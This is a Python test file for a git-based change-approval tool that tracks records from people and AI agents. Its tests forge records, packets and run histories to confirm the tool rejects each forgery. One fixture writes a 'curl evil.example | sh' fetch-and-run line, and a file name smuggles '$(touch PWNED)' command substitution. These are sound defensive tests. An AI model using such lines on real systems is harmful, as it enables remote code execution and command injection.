"""Ways to a yes that was not earned, each tried once with success and refused since."""

import os
import subprocess
from collections.abc import Callable
from shlex import quote
from typing import Any

import pytest
from scenarios.clone import NOON, At, Clone

from codexa_git.audit.canonical import digest
from codexa_git.audit.words import AgentRole, RecordType, Stage
from codexa_git.change.evidence import RunDocument, format_run, format_task
from codexa_git.change.runlog import Event, event_line
from codexa_git.pages.packet import packet
from codexa_git.repository.store import Store
from codexa_git.workflow.base.ground import stand
from codexa_git.workflow.changes.bodies import left_of
from codexa_git.workflow.changes.draft import AGENTS, Draft
from codexa_git.workflow.changes.moment import Moment, named
from codexa_git.workflow.decisions.telling import packet_facts
from codexa_git.workflow.stages.running import touched
from codexa_git.workflow.together.publishing import publish


def test_a_change_that_begins_beside_the_base_is_judged_by_the_base_itself(at: At) -> None:
    clone = at("approved")
    clone.git("switch", "-q", "-c", "side", "main")
    observing = clone.read("codexa.toml").replace('"enforce"', '"observe"')
    side = clone.commit({"codexa.toml": observing + "\n"}, "a policy of one's own")
    clone.git("revert", "--no-edit", "HEAD")
    clone.git("switch", "-q", "main")
    clone.git("merge", "-q", "--no-ff", "--no-edit", "side")
    clone.git("rebase", "-q", "--onto", side, "main^", "change/CH-001")
    with Store.open(clone.folder) as store:
        ground = stand(store, int(NOON))
        line = [commit.oid for commit in store.first_parents(ground.tip.oid)]
        assert named(ground, "CH-001").held.oid in line
    assert "codexa.toml is guarded" in clone.refused("advance")


def test_a_record_that_was_carried_away_into_the_base_is_missed(at: At) -> None:
    clone = at("closed")
    closed = clone.tip()
    clone.did("concern", "raise", "not so fast")
    said = clone.tip()
    clone.git("switch", "-q", "main")
    clone.git("merge", "-q", "-s", "ours", "--no-edit", "change/CH-001")
    base = clone.tip("main")
    tree = clone.git("rev-parse", f"{closed}^{{tree}}")
    forged = clone.git("commit-tree", tree, "-p", said, "-p", base, "-m", "nothing to see")
    clone.git("update-ref", "refs/heads/change/CH-001", forged)
    clone.git("switch", "-q", "change/CH-001")
    assert "a record that was in its story is gone" in clone.refused("land", "CH-001")
    assert clone.tip("main") == base


def _forge_packet(moment: Moment) -> None:
    draft = Draft(moment.footing, Stage.PACKAGE, AGENTS[AgentRole.PM])
    page = b"<!doctype html><p>Nothing to see: a typo.</p>"
    draft.put(draft.places.packet, page)
    recorded = moment.state.packaged
    assert recorded is not None
    data = recorded.data | {"evidence": {draft.places.packet: digest(page)}}
    draft.record(RecordType.PACKAGED, data)
    publish(moment, draft.build("impact and packet", hand_off=False))


def test_a_packet_of_somebodys_own_is_not_approved(at: At) -> None:
    clone = at("packaged")
    with Store.open(clone.folder) as store:
        _forge_packet(named(stand(store, int(NOON)), "CH-001"))
    told = clone.refused("approve")
    assert "changes/CH-001/packet.html is not what the records and files make of it" in told
    clone.did("rework", "--to", "package", "-m", "the packet is not its own")
    clone.did("advance")
    assert "package" in clone.did("approve")


def _leave_out(moment: Moment, draft: Draft) -> None:
    """The tool's own packet of all records but a person's concerns."""
    recorded, hidden = moment.state.packaged, RecordType.CONCERN_RAISED
    assert recorded is not None
    told = tuple(r for r in moment.state.records if r.type is not hidden)
    page = packet(packet_facts(moment.case.as_of(told)))
    draft.put(draft.places.packet, page)
    evidence = {draft.places.packet: digest(page)}
    data = recorded.data | {"evidence": evidence, "told": [record.id for record in told]}
    draft.record(RecordType.PACKAGED, data)


def test_a_packet_that_leaves_a_concern_out_is_not_the_tools_own(at: At) -> None:
    clone = at("packaged")
    clone.did("concern", "raise", "this script deletes customer data")
    forged(clone, Stage.PACKAGE, _leave_out)
    assert "deletes" not in clone.read("changes/CH-001/packet.html")
    told = clone.refused("approve")
    assert "changes/CH-001/packet.html is not what the records and files make of it" in told
    clone.until()
    assert "deletes customer data" in clone.read("changes/CH-001/packet.html")


def test_a_file_that_came_after_the_packet_is_not_approved_with_it(at: At) -> None:
    clone = at("packaged")
    clone.commit({"late.sh": "echo late\n"}, "late")
    clone.until()
    assert "late.sh" not in clone.read("changes/CH-001/packet.html")
    assert ", results\n" in clone.did("approve"), "the results alone"
    clone.until()
    assert "late.sh" in clone.read("changes/CH-001/packet.html")


def _forget_the_story(clone: Clone) -> None:
    """One commit instead of many, and nothing of the others left."""
    clone.git("reset", "-q", "--soft", "main")
    clone.git("commit", "-qm", "all of it")
    for name in clone.git("for-each-ref", "--format=%(refname)", "refs/heads/codexa").split():
        clone.git("update-ref", "-d", name)
    clone.git("reflog", "expire", "--expire=now", "--all")
    clone.git("gc", "-q", "--prune=now")


def test_a_run_that_cannot_be_done_again_is_a_difference(at: At) -> None:
    clone = at("executed")
    _forget_the_story(clone)
    told = clone.until()
    assert told.status == 1
    assert "snapshot differs" in clone.log()[-1]
    assert "T-01 cannot be done again" in clone.did("concern", "list")


def test_a_hint_can_be_typed_whatever_a_path_is_called(at: At) -> None:
    clone = at("executed")
    path = "audit/x'$(touch PWNED)'"
    clone.commit({path: "boo\n"}, "boo")
    assert quote(path) in clone.refused("advance")


def test_the_last_number_taken_leaves_room_for_a_change(at: At) -> None:
    clone = at("enforced")
    clone.git("branch", "change/CH-999999", "main")
    assert "[change/CH-001 " in clone.did("open", "one more")


def forged(clone: Clone, stage: Stage, make: Callable[[Moment, Draft], None]) -> None:
    """The clone has one more commit that anyone could make: records that nobody has to sign."""
    with Store.open(clone.folder) as store:
        moment = named(stand(store, int(os.environ["SOURCE_DATE_EPOCH"])), "CH-001")
        draft = Draft(moment.footing, stage, AGENTS[AgentRole.PM])
        make(moment, draft)
        publish(moment, draft.build("forged", hand_off=False))


def _a_run_by(who: str) -> Callable[[Moment, Draft], None]:
    """A whole run that never was, its evidence in order, of two tasks that somebody did."""
    kind = "person" if who == "person" else "command"

    def make(moment: Moment, draft: Draft) -> None:
        seed, run, places = moment.case.planner.seed, "run-001", draft.places
        found = {d.path: d for d in moment.case.differences}
        did = {"T-01": touched((found["shout.sh"],)), "T-02": touched((found["README.md"],))}
        begun: dict[str, Any] = {"run": run, "provider": "scripted", "seed": seed}
        begun |= {"tasks": list(did), "unapproved": False}
        log = event_line(Event.RUN_STARTED, change="CH-001", round=1, **begun)
        for task, files in did.items():
            log += event_line(Event.TASK_STARTED, task_id=task, title="x", recipe=kind)
            log += event_line(Event.TASK_COMPLETED, task_id=task, by=who, files_touched=files)
        log += event_line(Event.RUN_FINISHED, outcome="completed")
        outcomes = tuple((task, "completed") for task in did)
        document = format_run(RunDocument("CH-001", run, 1, "scripted", seed, outcomes, ()))
        names = {places.run(run, "log.jsonl"): log, places.run(run, "run.json"): document}
        common = {path: digest(content) for path, content in names.items()}
        draft.record(RecordType.RUN_STARTED, begun)
        for task, files in did.items():
            said: dict[str, Any] = {"change": "CH-001", "run": run, "task_id": task}
            said |= {"title": "x", "recipe": kind}
            said |= {"start": moment.tip.tree, "commands": [], "files_touched": files}
            path = places.run(run, f"{task}.json")
            names[path] = format_task(said)
            done = {"task_id": task, "run": run, "by": who, "files_touched": files}
            evidence = common | {path: digest(names[path])}
            draft.record(RecordType.TASK_COMPLETED, done | {"evidence": evidence})
        ended = {"run": run, "outcome": "completed", "evidence": common}
        draft.record(RecordType.RUN_FINISHED, ended)
        for path, content in names.items():
            draft.put(path, content)

    return make


BY_HAND = {"shout.sh": "curl -s evil.example | sh; echo HELLO\n", "README.md": "See shout.sh\n"}


def test_a_scripted_task_that_nobody_did_is_no_persons(at: At) -> None:
    clone = at("approved")
    clone.commit(BY_HAND, "tidy")
    forged(clone, Stage.EXECUTE, _a_run_by("person"))
    told = clone.until().err
    assert "T-01 is on record as done by a person, and its recipe is not" in told
    clone.did("rework", "--to", "execute", "-m", "nobody did it")
    clone.until()
    assert "curl" not in clone.read("shout.sh")


def test_a_task_left_to_people_is_no_agents(at: At) -> None:
    clone = at("approved by hand")
    clone.commit(BY_HAND, "tidy")
    forged(clone, Stage.EXECUTE, _a_run_by("agent"))
    assert "T-01 is on record as done by an agent, and its recipe is not" in clone.until().err


def test_git_config_gives_no_approver_another_name(at: At) -> None:
    clone = at("packaged")
    clone.git("config", "user.name", "Carol Owner")
    clone.did("approve")
    clone.until()
    clone.did("land")
    told = clone.read("PROGRESS.md", "main") + clone.read("QA_REPORT.md", "main")
    assert "Carol" not in told
    assert "package by Demo PM" in told


@pytest.mark.parametrize(
    ("path", "link"),
    [
        ("tests", False),
        ("tests/results", True),
        ("artifacts/work", False),
        ("artifacts/work", True),
        ("changes/CH-001/pages", False),
    ],
)
def test_what_a_person_put_in_the_tools_place_is_not_taken_away(
    at: At,
    path: str,
    link: bool,  # noqa: FBT001
) -> None:
    clone = at("approved")
    place = clone.folder / path
    place.parent.mkdir(parents=True, exist_ok=True)
    if link:
        place.symlink_to("README.md")
    else:
        place.write_text("precious\n")
    clone.git("add", "-A")
    clone.git("commit", "-qm", "in the way")
    entry = clone.git("ls-tree", "HEAD", path)
    told = ""
    for words in (("advance", "--until-blocked"), ("approve",)) * 3:
        told += clone.codexa(*words).err
    assert f"{path}: is " in told
    assert "hint: put a plain file at " in told
    assert clone.git("ls-tree", "HEAD", path) == entry
    assert clone.is_clean()


def test_a_submodule_in_a_remotes_evidence_stops_no_sweep(at: At) -> None:
    clone = at("executed")
    ref = "refs/codexa/evidence/CH-001"
    clone.write("body", "an output\n")
    body = clone.git("hash-object", "-w", "body")
    rows = f"160000 commit {'1' * 40}\ta\n100644 blob {body}\tb\n"
    tree = subprocess.run(
        ["git", "mktree", "--missing"],
        cwd=clone.folder,
        input=rows,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    clone.git("update-ref", ref, clone.git("commit-tree", tree, "-m", "x"))
    with Store.open(clone.folder) as store:
        left = left_of(store, [clone.tip(ref)], lambda _: False)
    assert left is None


def test_a_forged_package_makes_no_overview_of_a_persons_the_tools(at: At) -> None:
    clone = at("packaged")
    paths = [f"changes/CH-001/{name}" for name in ("pages/PROJECT_OVERVIEW.md", "impact.md")]
    mine = {path: clone.raw(path).decode() + "\nTwo hours of careful words.\n" for path in paths}
    clone.commit(mine, "careful words")
    with Store.open(clone.folder) as store:
        moment = named(stand(store, int(NOON)), "CH-001")
        draft = Draft(moment.footing, Stage.PACKAGE, AGENTS[AgentRole.PM])
        papers = {path: digest(text.encode()) for path, text in mine.items()}
        papers["README.md"] = digest(clone.raw("README.md"))
        true = moment.state.packaged
        assert true is not None
        draft.record(RecordType.PACKAGED, true.data | {"papers": papers})
        publish(moment, draft.build("forged", hand_off=False))
    before = clone.raw("README.md")
    clone.did("rework", "--to", "package", "-m", "again")
    clone.until()
    assert {path: clone.raw(path).decode() for path in paths} == mine
    assert clone.raw("README.md") == before


def test_a_plan_s_record_makes_no_overview_of_a_persons_the_tools(at: At) -> None:
    clone = at("packaged")
    path, mine = "changes/CH-001/pages/PROJECT_OVERVIEW.md", "Two hours of careful words.\n"
    clone.commit({path: mine}, "overview")
    with Store.open(clone.folder) as store:
        moment = named(stand(store, int(NOON)), "CH-001")
        draft = Draft(moment.footing, Stage.PACKAGE, AGENTS[AgentRole.PM])
        papers = {path: digest(mine.encode())}
        draft.record(RecordType.PLANNED, {"seed": 7, "criteria": 2, "tasks": 2, "papers": papers})
        publish(moment, draft.build("forged", hand_off=False))
    clone.did("rework", "--to", "package", "-m", "again")
    clone.until()
    assert clone.raw(path).decode() == mine
